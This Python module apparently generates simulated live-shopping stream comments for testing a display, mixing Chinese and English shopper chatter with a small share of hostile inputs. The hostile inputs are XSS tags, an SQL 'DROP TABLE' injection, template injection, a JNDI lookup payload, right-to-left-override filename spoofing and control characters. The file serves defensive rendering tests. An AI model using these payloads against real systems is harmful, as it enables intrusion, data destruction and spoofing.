"""Invented comments of a live room: some friendly, some bored, some hostile to a page that shows them."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from random import Random

_CHINESE = (
    "主播晚上好！",
    "来了来了",
    "这件大衣有驼色吗？",
    "155 穿什么码",
    "面料会起球吗",
    "上链接上链接",
    "什么时候开抢？",
    "倒计时了倒计时了",
    "手速不行啊",
    "抢到了！！！",
    "没抢到，还补货吗",
    "我付不了款，一直转圈",
    "显示已售罄？",
    "补货补货补货",
    "家人们冲",
    "太便宜了吧",
    "买两件可以吗",
    "发什么快递",
    "几天能到新疆",
    "支持七天无理由吗",
    "去年买的到现在还穿",
    "比商场便宜一半",
    "主播再讲一下尺码",
    "微胖能穿吗",
    "已拍，求优先发货",
    "刚进来，错过了什么",
    "666",
    "哈哈哈哈哈",
    "❤️❤️❤️",
    "求蓝色！",
    "谁取消了一件让给我吧",
    "价格是到手价吗",
)
_ENGLISH = (
    "hello from Melbourne",
    "does it run small?",
    "what's the fabric?",
    "link please",
    "got one!!",
    "sold out already??",
    "will there be a restock",
    "payment is stuck at 99%",
    "shipping to Malaysia?",
    "bought it last year, still great",
    "the camel one please",
    "how many are left?",
    "go go go",
    "I had it in my cart :(",
)
# A screen must show these as text.
_HOSTILE = (
    "<script>alert('snap')</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE orders; --",
    "{{constructor.constructor('return 1')()}}",
    "${jndi:ldap://example.invalid/a}",
    "\u202e抢光了\u202c",
    "admin\u202egpj.exe",
    "z̸̡͎͔̺̻̥a̴̢̗͙͔͖l̷̰̤̤̙̥g̵̢̻̱͎̝o̶̧̡̗̗̱",
    "\u200b\u200b\u200b",
    "\u0000\u0007\u001b[31mred",
    "🧥" * 60,
    "长" * 500,
    "\\u003cb\\u003e",
    '"},{"type":"order","status":"paid"}',
)
_HOSTILE_SHARE = 0.01
_ENGLISH_SHARE = 0.2


def line(rng: Random) -> str:
    """One comment."""
    roll = rng.random()
    if roll < _HOSTILE_SHARE:
        return rng.choice(_HOSTILE)
    return rng.choice(_ENGLISH if roll < _HOSTILE_SHARE + _ENGLISH_SHARE else _CHINESE)
